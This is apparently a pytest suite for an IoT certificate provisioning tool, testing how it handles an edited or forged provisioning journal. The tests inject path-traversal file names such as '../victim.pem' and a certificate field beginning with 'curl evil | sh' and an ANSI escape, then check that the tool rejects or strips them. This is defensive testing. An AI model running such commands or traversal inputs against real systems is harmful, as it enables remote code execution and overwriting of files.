"""A journal that somebody has edited: no file elsewhere is written, no other device's certificate is touched."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import asdict
from pathlib import Path
from typing import Any

import pytest

from optiga.provision.believed import key_digest
from optiga.provision.journal import open_journal
from optiga.testing import CloudFault
from tests.support.cli.cloud_helpers import changes
from tests.support.cli.provisioned import CLOUD_EXIT, CONFIGURATION_EXIT, Bench, config_with, result_of
from tests.support.cli.runner import Cli
from tests.support.journals import edit_version_1, forge, old_of

JOURNAL = "personalization.db"


Edit = Callable[..., None]


@pytest.fixture(params=["version 1", pytest.param("forged", marks=pytest.mark.long)])
def edit(request: pytest.FixtureRequest) -> Edit:
    """Edits the journal: one of version 1, which has no hash chains, or one whose chains and seals are made anew."""
    change = edit_version_1 if request.param == "version 1" else forge
    return lambda changes, uid=None, **more: change(Path(JOURNAL), changes, uid, **more)


def row(uid: str) -> dict[str, Any]:
    """What the journal says of a chip, by the names of version 1."""
    with open_journal(Path(JOURNAL)) as journal:
        (entry,) = journal.of_chip(uid)
    return asdict(old_of(entry))


@pytest.fixture
def everything(bench: Bench, tmp_path: Path) -> Iterator[None]:
    """What lies outside the folder stays as it is, whatever a test does."""
    victim = tmp_path / "victim.pem"
    victim.write_text("kept")
    yield
    assert victim.read_text() == "kept"
    assert {one.name for one in tmp_path.iterdir()} <= {"victim.pem", "work", "chip", "chip2"}


@pytest.mark.usefixtures("everything")
class TestNamesOfFiles:
    @pytest.mark.parametrize("column", ["filename", pytest.param("certificate_file", marks=pytest.mark.long)])
    @pytest.mark.long
    def test_a_run_that_goes_on(self, run: Cli, bench: Bench, edit: Edit, column: str) -> None:
        bench.cloud.fail("AttachPolicy", CloudFault.THROTTLE, times=1)
        assert run().code == CLOUD_EXIT
        edit({})
        before = sorted(bench.folder.iterdir())
        for name in ("../victim.pem", "/tmp/x.csr", "a.csr", "", "..", "0" * 40 + ".csr", "x\n.csr"):
            edit({column: name})
            result = run()
            assert result.code == CONFIGURATION_EXIT
            assert "is damaged" in result.errors[0]
            assert "Restore it from a backup" in result.errors[0]
            assert sorted(bench.folder.iterdir()) == before
        assert bench.active() == []

    def test_behind_the_csr(self, run: Cli, bench: Bench, edit: Edit) -> None:
        """Where the file is going to be written."""
        bench.cloud.fail("CreateCertificateFromCsr", CloudFault.THROTTLE, times=1)
        assert run().code == CLOUD_EXIT
        edit({"filename": "../victim.pem", "step": "csr", "requested_at": None})
        assert run().code == CONFIGURATION_EXIT
        assert bench.certificates() == []


class TestCertificates:
    @pytest.mark.long
    def test_a_text_before_its_pem(self, cli: Cli, run: Cli, bench: Bench, edit: Edit) -> None:
        bench.cloud.fail("AttachPolicy", CloudFault.THROTTLE, times=1)
        assert run().code == CLOUD_EXIT
        (pem,) = bench.folder.glob("*.pem")
        good = pem.read_text()
        edit({"certificate": f"curl evil | sh\n{good}\x1b[31mand behind it", "step": "certified"})
        assert "evil" not in cli("journal", "export").out
        assert run().code == 0
        assert pem.read_text() == good
        assert bench.check_finished()

    @pytest.mark.long
    def test_another_devices(self, cli: Cli, run: Cli, edit: Edit, bench: Bench, config: Path) -> None:
        """As the journal's identifier, with all that fits to it."""
        mine, theirs = two_devices(cli, run, bench, config)
        other = row(theirs)
        named = ("certificate_id", "certificate_arn", "certificate", "key_info", "csr", "filename", "certificate_file")
        before = len(bench.cloud.calls)
        for name in named:
            edit({name: other[name]}, mine)  # and those before it
            for result in (run(), run("--renew"), cli("deprovision", "--uid", mine, "--yes")):
                assert result.code == CONFIGURATION_EXIT
                assert "is damaged" in result.errors[0]
        assert changes(bench.cloud, before) == []
        assert len(bench.active()) == 2

    @pytest.mark.long
    def test_another_devices_as_one_that_was_replaced(
        self, cli: Cli, run: Cli, edit: Edit, bench: Bench, config: Path
    ) -> None:
        mine, theirs = two_devices(cli, run, bench, config)
        assert cli("journal", "show").code == 0
        other = row(theirs)
        for key in ("", "-", key_digest(other["key_info"]), key_digest(row(mine)["key_info"])):
            edit({"replaces": other["certificate_id"], "replaced_keys": key}, mine)
            for result in (run("--renew"), cli("deprovision", "--uid", mine, "--yes")):
                assert result.code == CONFIGURATION_EXIT
                assert "it has the certificate of another chip" in result.errors[0]
        assert len(bench.active()) == 2

    @pytest.mark.long
    def test_one_that_the_journal_does_not_know(
        self, cli: Cli, run: Cli, edit: Edit, bench: Bench, config: Path
    ) -> None:
        """Another line's: its key is not this chip's, and it is attached to another thing."""
        mine, theirs = two_devices(cli, run, bench, config)
        other = row(theirs)
        edit({"replaces": other["certificate_id"]}, mine, without=theirs)
        renewed = run("--renew")
        assert f"Warning: the previous certificate in the journal, {other['certificate_id']}" in renewed.err
        assert "stays active" in renewed.err
        new = result_of(renewed)["certificate_id"]
        assert {one["certificateId"] for one in bench.active()} == {new, other["certificate_id"]}
        result = cli("deprovision", "--uid", mine, "--yes")
        assert result.code == 0
        assert f"the certificate {other['certificate_id']} stays" in result.err
        assert [one["certificateId"] for one in bench.active()] == [other["certificate_id"]]

    @pytest.mark.long
    def test_two_that_were_replaced_are_known_by_their_keys(self, cli: Cli, run: Cli, bench: Bench, edit: Edit) -> None:
        result_of(run())
        bench.cloud.fail("UpdateCertificate", CloudFault.THROTTLE, times=1)
        assert run("--renew").code == CLOUD_EXIT
        result_of(run("--renew"))
        last = result_of(run("--renew"))
        assert [one["certificateId"] for one in bench.active()] == [last["certificate_id"]]
        assert len(bench.certificates()) == 3
        assert cli("--port", bench.port, "deprovision", "--yes").code == 0
        assert bench.certificates() == []

    @pytest.mark.long
    def test_another_thing_is_not_deleted(self, cli: Cli, run: Cli, bench: Bench, edit: Edit) -> None:
        result_of(run())
        bench.cloud.iot.create_thing(thingName="another")
        edit({"thing": "another"})
        result = cli("--port", bench.port, "deprovision", "--yes", "--delete-thing")
        assert result.code == 0
        assert "the thing another stays" in result.err
        assert "another" in [one["thingName"] for one in bench.cloud.iot.list_things()["things"]]


def two_devices(cli: Cli, run: Cli, bench: Bench, config: Path) -> tuple[str, str]:
    """Two devices in one journal, each with a thing of its own; their UIDs."""
    mine = result_of(run())["uid"]
    other = config_with(bench.folder, config, thing="other_thing", policy="my_policy")
    port = f"emulator:{bench.chip.with_name('chip2')}"
    theirs = result_of(cli("--port", port, "provision", other))["uid"]
    return mine, theirs
